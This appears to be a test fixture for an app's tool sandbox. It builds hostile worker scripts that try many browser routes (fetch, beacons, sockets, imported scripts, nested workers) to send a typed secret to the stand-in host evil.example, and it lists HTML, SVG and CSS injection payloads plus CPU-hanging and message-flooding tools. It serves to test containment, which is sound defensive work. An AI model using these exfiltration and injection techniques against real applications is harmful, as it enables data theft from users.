// Tools written to get out. What people type into one would go by every road its author knows of to `evil.example`, each
// road under a name of its own; whatever else it reaches it lists.

/** Roads out of where the code of a tool runs. One that gives something other than nothing has reached it. */
const ROADS = String.raw`
const to = (road, scheme = 'https') => scheme + '://' + road + '.evil.example/?secret=typed';
const within = (ms, wait) => Promise.race([wait, new Promise((resolve) => setTimeout(resolve, ms))]);
const blob = (code, type = 'text/javascript') => URL.createObjectURL(new Blob([code], { type }));
const inWorker = (make) =>
  within(1_500, new Promise((resolve) => {
    const worker = make();
    const hear = (event) => event.data && resolve(event.data);
    (worker.port ?? worker).onmessage = hear;
    worker.onerror = () => resolve(undefined);
  }));
/* Of a worker within the worker, which runs under the same policy. */
const NESTED =
  'fetch("' + to('nested') + '", { mode: "no-cors" }).then(() => postMessage("a nested worker asked"), () => 0);' +
  'try { importScripts("' + to('nestedimport') + '"); postMessage("a nested worker loaded") } catch {}' +
  'if ("RTCPeerConnection" in self || "document" in self) postMessage("a nested worker has more");' +
  'try { indexedDB.open("understory").onsuccess = () => postMessage("a nested worker has storage") } catch {}';

const roads = {
  /* asking other hosts, or the app's own */
  fetch: () => fetch(to('fetch')).then(() => 'answered'),
  noCors: () => fetch(to('nocors'), { mode: 'no-cors' }).then(() => 'answered'),
  kept: () => fetch(to('kept'), { method: 'POST', keepalive: true, body: 'x', mode: 'no-cors' }).then(() => 'answered'),
  own: () => fetch(app + 'relay.json', { mode: 'no-cors' }).then(() => 'answered'),
  blobs: () => fetch(blob('x')).then(() => 'answered'),
  later: () => void fetchLater(to('later'), { activateAfter: 0 }),
  beacon: () => navigator.sendBeacon(to('beacon'), 'x') || undefined,
  request: () => within(1_500, new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onload = () => resolve('answered');
    request.onerror = () => resolve(undefined);
    request.open('GET', to('request'));
    request.send();
  })),
  waiting: () => {
    const request = new XMLHttpRequest();
    request.open('GET', to('waiting'), false);
    request.send();
    return 'answered';
  },
  socket: () => within(1_500, new Promise((resolve) => {
    const socket = new WebSocket(to('socket', 'wss'));
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve(undefined);
  })),
  socketOfApp: () => within(1_500, new Promise((resolve) => {
    const socket = new WebSocket(app.replace('http', 'ws'));
    socket.onopen = () => resolve('open');
    socket.onerror = () => resolve(undefined);
  })),
  stream: () => new WebSocketStream(to('stream', 'wss')).opened.then(() => 'open'),
  events: () => within(1_500, new Promise((resolve) => {
    const events = new EventSource(to('events'));
    events.onopen = () => resolve('open');
    events.onerror = () => resolve(undefined);
  })),
  transport: () => within(1_500, new WebTransport(to('transport')).ready.then(() => 'open')),
  font: () => new FontFace('f', 'url(' + to('font') + ')').load().then(() => 'loaded'),
  dataFont: () => self.fonts.add(new FontFace('g', 'url(' + to('addedfont') + ')')) && undefined,

  /* code from elsewhere, and places where other policies might hold */
  scripts: () => importScripts(to('scripts')) ?? 'loaded',
  scriptsOfApp: () => importScripts(app + 'service-worker.js') ?? 'loaded',
  module: () => import(to('module')).then(() => 'loaded'),
  moduleOfApp: () => import(app + 'service-worker.js').then(() => 'loaded'),
  dataModule: () => import('data:text/javascript,export default 1').then(() => 'loaded'),
  evaluated: () => eval('"evaluated"'),
  made: () => Function('return "made"')(),
  makesAsync: () => (async () => {}).constructor('return "made"')(),
  timed: () => new Promise((resolve) => {
    setTimeout('globalThis.timed = true', 0);
    setTimeout(() => resolve(globalThis.timed && 'a text was run'), 50);
  }),
  nested: () => inWorker(() => new Worker(blob(NESTED))),
  nestedModule: () => inWorker(() => new Worker(blob(NESTED), { type: 'module' })),
  nestedData: () => inWorker(() => new Worker('data:text/javascript,postMessage("a worker of a text")')),
  nestedApp: () => inWorker(() => new Worker(app + 'service-worker.js')),
  nestedElsewhere: () => inWorker(() => new Worker(to('worker'))),
  shared: () => inWorker(() => new SharedWorker(blob('onconnect = ({ ports }) => ports[0].postMessage("a shared worker")'))),
  service: () => navigator.serviceWorker.register(app + 'service-worker.js').then(() => 'registered'),

  /* connections between browsers, pages, windows: there are none */
  more: () => {
    const more = ['RTCPeerConnection', 'webkitRTCPeerConnection', 'mozRTCPeerConnection', 'document', 'window', 'parent', 'top',
      'opener', 'open', 'localStorage', 'sessionStorage', 'ShadowRealm', 'DOMParser', 'Image', 'Audio', 'PaymentRequest'];
    return more.filter((name) => name in globalThis).join() || undefined;
  },
  elsewhere: () => {
    try {
      location = to('location');
    } catch {}
    try {
      location.href = to('href');
    } catch {}
    return typeof location.assign === 'function' ? 'it can go elsewhere' : undefined;
  },
  address: () => (location.href.startsWith('blob:null/') ? undefined : location.href),
  origin: () => (origin === 'null' ? undefined : origin),
  memory: () => (globalThis.crossOriginIsolated || 'SharedArrayBuffer' in globalThis ? 'memory in common' : undefined),

  /* what is of the app, the device and the person */
  database: () => within(1_500, new Promise((resolve, reject) => {
    const opening = indexedDB.open('understory');
    opening.onsuccess = () => resolve('a database');
    opening.onerror = reject;
  })),
  databases: () => indexedDB.databases().then((all) => 'databases ' + all.length),
  caches: () => caches.keys().then((keys) => 'caches ' + keys),
  cookies: () => cookieStore.getAll().then(() => 'cookies'),
  files: () => navigator.storage.getDirectory().then(() => 'files'),
  space: () => navigator.storage.estimate().then(({ usage }) => usage && 'space ' + usage),
  locks: () => navigator.locks.query().then(() => 'locks'),
  channel: () => within(500, new Promise((resolve) => {
    for (const name of ['understory', 'y-protocols', 'vault', 'svelte']) {
      const channel = new BroadcastChannel(name);
      channel.onmessage = ({ data }) => resolve('a channel: ' + data);
      channel.postMessage('x');
    }
  })),
  notices: () => new Notification('x') && undefined,
  /* the person was asked, and said yes to the app */
  senses: () => ['mediaDevices', 'geolocation', 'clipboard', 'credentials'].filter((name) => name in navigator).join() || undefined,
  devices: () => navigator.usb?.getDevices().then(() => 'usb'),
};

const reached = [];
const run = async () => {
  for (const [name, road] of Object.entries(roads)) {
    try {
      const got = await within(4_000, road());
      if (got !== undefined && got !== null) reached.push(name + ': ' + String(got).slice(0, 100));
    } catch {}
  }
};
`;

/** What a view may not hold; each is refused whole, so that nothing of it is drawn. */
const VIEWS = String.raw`
const svg = (name, href) => ({ is: 'svg', has: { is: name, href } });
const views = {
  link: { is: 'link', rel: 'preconnect', href: to('link') },
  lookUp: { is: 'link', rel: 'dns-prefetch', href: to('lookup') },
  linkUpper: { is: 'LINK', rel: 'preconnect', href: to('linkupper') },
  linkPrefixed: { is: 'x:link', rel: 'preconnect', href: to('linkprefixed') },
  linkTurning: { is: { toString: 'link' } },
  linkInSvg: { is: 'svg', has: { is: 'link', rel: 'preconnect', href: to('linkinsvg') } },
  meta: { is: 'meta', 'http-equiv': 'refresh', content: '0;url=' + to('meta') },
  base: { is: 'base', href: to('base') },
  script: { is: 'script', src: to('script') },
  scriptText: { is: 'script', has: 'fetch("' + to('scripttext') + '")' },
  svgScript: svg('script', to('svgscript')),
  svgImage: svg('image', to('svgimage')),
  svgUse: svg('use', to('svguse') + '#x'),
  svgLink: svg('a', to('svglink')),
  foreign: { is: 'svg', has: { is: 'foreignObject', has: { is: 'iframe', src: to('foreign') } } },
  frame: { is: 'iframe', src: to('frame') },
  frameText: { is: 'iframe', srcdoc: '<script>fetch("' + to('frametext') + '")<\/script>' },
  object: { is: 'object', data: to('object') },
  embed: { is: 'embed', src: to('embed') },
  image: { is: 'img', src: to('image') },
  video: { is: 'video', src: to('video'), autoplay: true },
  template: { is: 'template', has: { is: 'link', href: to('template') } },
  styleElement: { is: 'style', has: '@import url(' + to('styleelement') + ')' },
  anchor: { is: 'a', href: to('anchor'), has: 'x' },
  handler: { is: 'p', onclick: 'fetch("' + to('handler') + '")' },
  source: { is: 'p', src: to('source') },
  action: { is: 'form', action: to('action'), has: { is: 'button', formaction: to('formaction') } },
  file: { is: 'input', type: 'file' },
  secret: { is: 'input', type: 'password' },
  imageField: { is: 'input', type: 'image', src: to('imagefield') },
  custom: { is: 'p', 'is ': 'x' },
  slot: { is: 'x-made' },
  deep: Array.from({ length: 200 }).reduce((inner) => ({ is: 'div', has: inner }), 'x'),
  wide: Array.from({ length: 10_000 }, () => 'x'),
  long: 'x'.repeat(1_000_000),
  loop: (() => {
    const around = { is: 'div' };
    around.has = around;
    return around;
  })(),
  symbol: [[['x']]],
};
/* These draw something, and ask nobody for it. */
const drawn = [
  { is: 'p', style: 'background: url(' + to('background') + '); cursor: url(' + to('cursor') + '), auto; filter: url(' + to('filter') + '#x)', has: 'x' },
  { is: 'svg', has: { is: 'rect', fill: 'url(' + to('fill') + '#x)', style: 'mask: url(' + to('mask') + '#x)' } },
  { is: 'form', on: 'x', name: 'body', has: ['children', 'attributes', 'setAttribute', 'insertBefore', 'reset'].map((name) => ({ is: 'input', id: name, name })) },
];
const style = '@import url(' + to('import') + '); @font-face { font-family: evil; src: url(' + to('face') + ') } body { font-family: evil; background: url(' + to('sheet') + ') }';
const refused = [];
const draw = async () => {
  for (const [name, view] of Object.entries(views)) {
    const before = refused.length;
    postMessage({ show: view });
    for (let i = 0; i < 100 && refused.length === before; i++) await new Promise((resolve) => setTimeout(resolve, 20));
    if (refused.length === before) reached.push('drawn: ' + name);
  }
  postMessage({ style, show: drawn });
  await new Promise((resolve) => setTimeout(resolve, 500));
};
`;

const BEGINS = String.raw`
let began = false;
onmessage = async ({ data }) => {
  if (data.refused === 'show') refused.push(data.why);
  if (began || data.state === undefined) return;
  began = true;
  await run();
  await draw();
  postMessage({ show: { is: 'output', has: reached.length === 0 ? 'reached nothing' : 'reached ' + reached.join('; ') } });
};
`;

/** Tries every road but some, and says on its page which led anywhere. `app` is where the app is. */
export function pryingTool(app: string, but: readonly string[] = []): string {
  const less = but.map((road) => `delete roads[${JSON.stringify(road)}];`).join('');
  return `const app = ${JSON.stringify(app)};${ROADS}${less}${VIEWS}${BEGINS}`;
}

/** Keeps the processor to itself from the moment somebody presses its button. */
export const HANGING_TOOL = `
postMessage({ show: { is: 'button', on: 'hang', has: 'Hang' } });
onmessage = ({ data }) => { while (data.did); };
`;

/** Never stops talking. */
export const FLOODING_TOOL = `
postMessage({ show: { is: 'p', has: 'quiet so far' } });
onmessage = () => { for (;;) postMessage({ set: 'x', value: Math.random() }); };
`;
